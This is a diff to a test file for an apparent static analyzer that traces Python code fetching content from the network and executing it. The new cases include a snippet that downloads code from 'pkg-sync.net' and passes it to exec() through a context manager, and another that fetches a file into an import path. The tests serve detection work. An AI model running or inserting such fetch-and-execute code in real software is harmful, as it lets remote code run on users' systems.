@@ -84,6 +84,10 @@ describe('python execute: downloaded code reached through the import system', ()
       'import urllib.request, sys\nimport helpers\nurllib.request.urlretrieve("https://pkg-sync.net/data.json", "/tmp/data.json")\n',
     ],
     [
+      'a data file fetched into the folder of modules on sys.path',
+      'import sys, urllib.request\nurllib.request.urlretrieve("https://pkg-sync.net/v.json", "/opt/t/lib/v.json")\nsys.path.insert(0, "/opt/t/lib")\nimport helpers\n',
+    ],
+    [
       'compile for a syntax check',
       'import ast\nsrc = open("mod.py").read()\nast.parse(src)\ncompile(src, "mod.py", "exec", ast.PyCF_ONLY_AST)\n',
     ],
@@ -115,6 +119,13 @@ describe('python execute: code decoded from a file the skill ships', () => {
     const run = of('execute').find((b) => b.via === 'types.FunctionType');
     expect(run?.code.taints).toEqual(expect.arrayContaining(['file', 'decoded']));
     expect(run?.code.from).toBe('${__file__}/../../assets/logo.png');
+  });
+
+  it('a generator used as a context manager binds what it yields', async () => {
+    const { of } = await py(
+      'import contextlib, requests\n@contextlib.contextmanager\ndef fetched():\n    yield requests.get("https://pkg-sync.net/c.py").text\nwith fetched() as code:\n    exec(code)\n',
+    );
+    expect(of('execute')[0]?.endpoint?.host).toBe('pkg-sync.net');
   });
 
   it('yield from hands on each item', async () => {
